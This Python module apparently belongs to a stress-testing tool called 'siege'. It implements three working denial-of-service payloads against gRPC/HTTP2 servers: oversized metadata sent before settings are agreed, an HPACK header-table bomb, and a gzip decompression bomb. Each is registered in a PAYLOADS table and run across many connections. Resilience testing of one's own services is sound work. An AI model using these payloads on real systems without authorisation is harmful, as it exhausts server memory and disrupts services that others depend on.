"""Little on the wire, much in memory: what is compressed, repeated or too large."""

import asyncio
import gzip
from collections import Counter

from siege.attack import Attack, Tally, Target
from siege.connection import FrameConnection
from siege.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MAX_FRAME_BYTES,
    PREFACE,
    SETTINGS,
    frame,
    header_block,
    message,
)
from siege.half_open import GET_RUN
from siege.several import tally_of

# The first entry of the table that a connection's headers fill, right after the fixed ones.
_FIRST_OWN_ENTRY = b"\xbe"
_ONE_ENTRY = b"\x40\x01x\x7f\xa0\x1e" + b"x" * 3999


async def large_metadata(target: Target) -> Tally:
    """Send metadata of a megabyte in one breath with the preface, before the server could say what it takes."""
    blocks = [header_block(GET_RUN, [(b"x-%d" % number, b"x" * 8000) for number in range(125)])]
    return await _headers(target, blocks)


async def header_bomb(target: Target) -> Tally:
    """Put a long entry in the table of headers and name it, a byte each time, again and again."""
    opening = header_block(GET_RUN)
    return await _headers(target, [opening + _ONE_ENTRY, opening + _FIRST_OWN_ENTRY * 16_000])


async def _headers(target: Target, blocks: list[bytes]) -> Tally:
    tally: Tally = Counter()
    for _ in range(target.size):
        async with FrameConnection(target.address, greets=False) as connection:
            calls = b"".join(_headers_frames(1 + 2 * number, block) for number, block in enumerate(blocks))
            await connection.send(PREFACE + frame(SETTINGS, 0, 0) + calls)
            await connection.answered(len(blocks), 5)
            tally += tally_of([connection])
    await asyncio.sleep(target.hold_s)
    return tally


def _headers_frames(stream: int, block: bytes) -> bytes:
    pieces = [block[at : at + MAX_FRAME_BYTES] for at in range(0, len(block), MAX_FRAME_BYTES)]
    frames = [frame(HEADERS, 0, stream, pieces[0])]
    frames += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:]]
    return b"".join(frames) + frame(CONTINUATION, END_HEADERS, stream) + frame(DATA, END_STREAM, stream, message(b""))


async def gzip_bomb(target: Target) -> Tally:
    """Send messages that are 40 MiB once they are inflated."""
    # It fits into the room that a call has from the beginning.
    opening = header_block(GET_RUN, [(b"grpc-encoding", b"gzip")])
    bomb = message(gzip.compress(bytes(40 * 1024 * 1024)), flag=1)
    tally: Tally = Counter()
    for _ in range(target.size):
        async with FrameConnection(target.address) as connection:
            await connection.send(frame(HEADERS, END_HEADERS, 1, opening))
            for at in range(0, len(bomb), MAX_FRAME_BYTES):
                await connection.send(frame(DATA, 0, 1, bomb[at : at + MAX_FRAME_BYTES]))
            await connection.send(frame(DATA, END_STREAM, 1))
            await connection.answered(1, 5)
            tally += tally_of([connection])
    return tally


PAYLOADS = {
    "large metadata": Attack(large_metadata, 50, "calls with 1 MiB of metadata, sent before the settings are agreed"),
    "header bombs": Attack(header_bomb, 50, "headers of 20 KiB that stand for 64 MB"),
    "gzip bombs": Attack(gzip_bomb, 100, "messages of 40 KiB that inflate to 40 MiB"),
}
